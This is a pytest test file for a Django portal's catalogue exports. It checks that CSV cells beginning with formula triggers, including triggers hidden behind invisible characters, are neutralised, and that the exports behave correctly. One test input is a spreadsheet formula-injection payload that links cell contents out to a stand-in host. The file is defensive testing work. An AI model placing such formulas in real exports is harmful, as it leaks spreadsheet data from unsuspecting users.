"""Tables that no spreadsheet runs, complete, and cut honestly."""

import csv
import io
import json

import pytest
from django.test import RequestFactory
from django.utils import translation

from portal.catalogue.exports import BATCH
from portal.catalogue.printable import harmless, printable
from practices.exports import COLUMNS, PracticeExport
from tests.api.channels import LANGUAGES, data, table
from tests.factories import make_published_practice

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://example.org/?"&A1,"click")'


SIGNS = ["=1+1", "+1", "-1", "@SUM(A1)", "＝1+1", "＠SUM", "'=1"]  # the last: so that an import can undo it
HIDDEN = ["\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "\u200b=1", "\x00=1", "\x0b=1", "\tplain", "\rplain"]


@pytest.mark.parametrize("cell", SIGNS + HIDDEN)
def test_a_cell_that_a_spreadsheet_would_run_is_quoted(cell):
    assert harmless(cell) == f"'{printable(cell)}"


@pytest.mark.parametrize("cell", ["", "Peace = dialogue", "2 + 2", "a-b", "someone@example.org", "'tis", "«=1»"])
def test_other_cells_stay_as_they_are(cell):
    assert harmless(cell) == cell


def test_no_text_of_a_practice_can_be_a_formula(client, index_changes):
    words = dict.fromkeys(
        ("summary", "teaser", "context", "approach", "results", "lessons", "criticism", "reply"), FORMULA
    )
    words.pop("summary")
    practice = make_published_practice(FORMULA, words=words)
    index_changes()

    (row,) = [row for row in table(client) if row["slug"] == practice.slug]

    assert row["title"] == f"'{FORMULA}"
    assert {row[name] for name in words} == {f"'{FORMULA}"}
    assert [cell for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []


def test_the_data_keep_the_words_as_they_are(client, index_changes):
    practice = make_published_practice(FORMULA)
    index_changes()

    (item,) = [item for item in data(client)["items"] if item["slug"] == practice.slug]

    assert item["title"] == FORMULA


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_table_opens_in_excel_and_says_what_it_is(client, language):
    response = client.get(f"/{language}/practices/export.csv?pillar=prevention")
    body = response.getvalue()

    assert body.startswith(b"\xef\xbb\xbf")
    assert next(csv.reader(io.StringIO(body.decode("utf-8-sig")))) == list(COLUMNS)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith(f'attachment; filename="practices-{language}-2')
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "private, no-store"


def test_a_list_that_finds_nothing_is_a_table_of_nothing(client):
    assert table(client, "q=zzzzzzzzzz") == []
    assert data(client, "q=zzzzzzzzzz")["items"] == []


def test_words_stand_in_the_language_of_the_address(client):
    spanish, english = table(client, language="es"), table(client)

    assert {row["url"].split("/")[3] for row in spanish} == {"es"}
    assert {row["language"] for row in english} == {"en"}
    assert {row["language"] for row in spanish} > {"es"}


def cut_at(most: int, form: str, language: str = "en") -> str:
    request = RequestFactory().get(f"/{language}/practices/export.{form}")
    with translation.override(language):
        return PracticeExport.as_view(most=most)(request, format=form).getvalue().decode("utf-8-sig")


def test_a_list_that_is_too_long_is_cut_and_says_so():
    rows = list(csv.reader(io.StringIO(cut_at(5, "csv"))))
    answer = json.loads(cut_at(5, "json"))

    sentence = "These are the first 5 of 66. Narrow the list to take the rest."
    assert len(rows) == 1 + 5 + 1
    assert rows[-1][0] == sentence
    assert (len(answer["items"]), answer["count"], answer["notes"]) == (5, 66, [sentence])


def test_a_list_of_just_the_longest_length_is_whole():
    assert json.loads(cut_at(66, "json"))["notes"] == []


@pytest.mark.parametrize(("form", "mark"), [("bib", "@misc{"), ("ris", "TY  - ELEC")])
def test_references_hold_each_practice_once(client, form, mark):
    assert client.get(f"/fr/practices/export.{form}").getvalue().decode().count(mark) == 66


def test_the_table_makes_the_same_few_queries_for_each_fifty_of_its_rows(client, queries):
    def number(query: str) -> tuple[int, int]:
        with queries() as made:
            rows = len(table(client, query))
        return rows, len(made)

    number("")
    one, some, many = number("country=lbn"), number("pillar=prevention"), number("")
    assert one[0] == 1 < some[0] <= BATCH < many[0] == 66 <= 2 * BATCH
    assert one[1] == some[1] == many[1] / 2 <= 5
